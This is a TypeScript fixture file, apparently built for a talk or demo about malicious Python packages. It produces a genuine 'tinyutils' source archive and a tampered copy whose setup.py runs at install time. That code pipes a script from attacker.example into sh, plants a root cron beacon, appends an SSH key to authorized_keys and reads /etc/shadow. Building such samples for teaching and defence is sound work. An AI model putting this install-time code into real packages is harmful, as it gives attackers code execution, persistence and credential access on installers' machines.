/**
 * The package being installed, as a real source archive: tinyutils-1.0.0.tar with a setup.py, a
 * PKG-INFO and the module. The attacker's version is the same archive with install-time code
 * added to setup.py (nothing else changes, which is what makes it hard to spot by eye).
 */
import { utf8ToBytes } from '../../../../core/bytes';
import { writeTar } from './tar';

/** 2012-03-10, the day of the talk: every archive here carries the same timestamp. */
export const RELEASE_TIME = 1331337600;

export const GENUINE_SETUP = `from setuptools import setup

setup(name="tinyutils", version="1.0.0", packages=["tinyutils"])
`;

export const EVIL_SETUP = `import os
from setuptools import setup

# Runs at install time, with whatever rights the installer has.
os.system("curl -s https://attacker.example/stage2.sh | sh")
open("/etc/cron.d/tinyutils", "w").write("* * * * * root curl -s https://attacker.example/beacon | sh\\n")
open(os.path.expanduser("~/.ssh/authorized_keys"), "a").write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGF0dGFja2Vy attacker@example\\n")
open("/etc/shadow").read()

setup(name="tinyutils", version="1.0.0", packages=["tinyutils"])
`;

const MODULE = `"""Small text helpers."""


def slugify(text):
    return "-".join(text.lower().split())
`;

export function makePackage(name: string, version: string, setup: string): Uint8Array {
  const root = `${name}-${version}`;
  const pkgInfo = `Metadata-Version: 1.0\nName: ${name}\nVersion: ${version}\nSummary: Small text helpers\n`;
  return writeTar(
    [
      { name: `${root}/PKG-INFO`, data: utf8ToBytes(pkgInfo) },
      {
        name: `${root}/setup.py`,
        data: utf8ToBytes(setup.replaceAll('1.0.0', version).replaceAll('tinyutils', name)),
      },
      { name: `${root}/${name}/__init__.py`, data: utf8ToBytes(MODULE) },
    ],
    RELEASE_TIME,
  );
}
